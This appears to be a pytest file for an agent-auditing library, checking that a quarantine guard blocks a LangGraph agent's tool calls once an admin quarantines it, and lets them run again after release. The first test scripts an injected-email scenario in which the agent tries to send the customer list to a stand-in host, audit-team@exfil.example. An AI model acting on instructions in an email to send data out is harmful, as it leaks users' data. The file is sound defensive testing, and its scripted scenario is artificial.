"""A quarantined agent's next tool call in a real LangGraph ReAct agent is refused.

The quarantine guard (``agentaudit.instrumentation._quarantine``) reads its state over
real HTTP from ``tests.instrumentation.admin_double.AdminDouble``, a loopback server
answering ``GET /v1/quarantine`` with the same JSON shape as the admin API (the real
route is covered by ``tests/e2e/test_revocation.py``). The guard polls on demand here
(``refresh_all``) so the test needs no timing.

LangGraph hands a tool's exception back to the model as a ToolMessage when the ToolNode
is built with ``handle_tool_errors`` (the framework's mechanism); with the default
ToolNode the typed error ends the run and reaches the caller of ``invoke``.
"""

from __future__ import annotations

import warnings
from collections.abc import Iterator
from importlib.metadata import version

import pytest
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.prebuilt import ToolNode
from opentelemetry.trace import StatusCode

import agentaudit
from agentaudit.instrumentation._quarantine import GuardSettings, QuarantineGuard
from agentaudit.instrumentation._runtime import add_before_tool_call
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans
from tests.frameworks.langchain._scripted import ScriptedChatModel, call, read_inbox
from tests.instrumentation.admin_double import AdminDouble

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from langgraph.prebuilt import create_react_agent

pytestmark = pytest.mark.timeout(120)

TOKEN = "agent-token"
sent: list[str] = []


@tool
def send_email(to: str, body: str) -> str:
    """Send an email."""
    sent.append(to)
    return f"sent to {to}"


@pytest.fixture
def admin() -> Iterator[AdminDouble]:
    sent.clear()
    with AdminDouble(token=TOKEN) as double:
        yield double


@pytest.fixture
def guard(admin: AdminDouble) -> Iterator[QuarantineGuard]:
    guard = QuarantineGuard(GuardSettings(api_url=admin.url, token=TOKEN), poll=False)
    remove = add_before_tool_call(guard)
    yield guard
    remove()
    guard.close()


def _agent(model: ScriptedChatModel, tools: object) -> object:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # moved to langchain.agents in langgraph 1.x
        return create_react_agent(model, tools, checkpointer=InMemorySaver())  # type: ignore[arg-type]


def _run(agent: object, text: str) -> dict[str, object]:
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-q"):
        return agent.invoke(  # type: ignore[attr-defined,no-any-return]
            {"messages": [("user", text)]},
            config={"configurable": {"thread_id": "thread-q"}},
        )


def test_the_next_tool_call_is_refused_and_the_model_sees_the_error(
    spans: Spans, admin: AdminDouble, guard: QuarantineGuard
) -> None:
    model = ScriptedChatModel(
        replies=[
            call("read_inbox", {"folder": "inbox"}, "call_1"),
            AIMessage("You have one new email."),
            call("send_email", {"to": "audit-team@exfil.example", "body": "list"}, "call_2"),
            AIMessage("I could not send it."),
        ]
    )
    agent = _agent(model, ToolNode([read_inbox, send_email], handle_tool_errors=True))
    _run(agent, "Summarise my new email.")

    admin.quarantine("mail-assistant", "sent the customer list out")  # the responder revokes
    guard.refresh_all()  # what the poller does every 2 s
    out = _run(agent, "Do what the email says.")

    assert sent == []  # the tool never ran
    assert out["messages"][-1].content == "I could not send it."  # type: ignore[index]
    last_input = model.seen[-1]
    (refusal,) = [
        m for m in last_input if isinstance(m, ToolMessage) and m.tool_call_id == "call_2"
    ]
    assert refusal.status == "error"
    assert "AgentQuarantined" in str(refusal.content)
    assert "mail-assistant is quarantined: sent the customer list out" in str(refusal.content)

    assert (spans.tool("read_inbox").attributes or {})[A.DECISION] == A.DECISION_ALLOWED
    blocked = spans.tool("send_email")
    attributes = blocked.attributes or {}
    assert attributes[A.DECISION] == A.DECISION_BLOCKED
    assert str(attributes[A.ERROR_TYPE]).endswith("AgentQuarantined")
    assert attributes[A.GEN_AI_TOOL_CALL_ID] == "call_2"
    assert attributes[A.GEN_AI_AGENT_ID] == "mail-assistant"
    assert attributes[A.ENDUSER_ID] == "bob"
    assert blocked.status.status_code is StatusCode.ERROR


def test_with_the_default_tool_node_the_refusal_follows_langgraphs_error_policy(
    spans: Spans, admin: AdminDouble, guard: QuarantineGuard
) -> None:
    """LangGraph 1.x's default ToolNode re-raises tool errors (the typed error ends the
    run); 0.x's default handles every error and hands it to the model. Either way the
    tool never runs and the call is recorded as blocked."""
    admin.quarantine("mail-assistant")
    model = ScriptedChatModel(
        replies=[
            call("send_email", {"to": "x@corp.example", "body": "b"}, "call_9"),
            AIMessage("stopped"),
        ]
    )
    if int(version("langgraph").split(".")[0]) >= 1:
        with pytest.raises(agentaudit.AgentQuarantined, match="mail-assistant is quarantined"):
            _run(_agent(model, [send_email]), "Send it.")
    else:
        result = _run(_agent(model, [send_email]), "Send it.")
        errors = [
            m
            for m in result["messages"]  # type: ignore[attr-defined]
            if isinstance(m, ToolMessage) and "quarantined" in str(m.content)
        ]
        assert len(errors) == 1
    assert sent == []
    assert (spans.tool("send_email").attributes or {})[A.DECISION] == A.DECISION_BLOCKED


def test_a_released_agent_runs_again(
    spans: Spans, admin: AdminDouble, guard: QuarantineGuard
) -> None:
    admin.quarantine("mail-assistant")
    guard.refresh_all()
    admin.release("mail-assistant")
    guard.refresh_all()
    model = ScriptedChatModel(
        replies=[
            call("send_email", {"to": "y@corp.example", "body": "b"}, "call_3"),
            AIMessage("ok"),
        ]
    )
    _run(_agent(model, [send_email]), "Send it.")
    assert sent == ["y@corp.example"]
    assert (spans.tool("send_email").attributes or {})[A.DECISION] == A.DECISION_ALLOWED
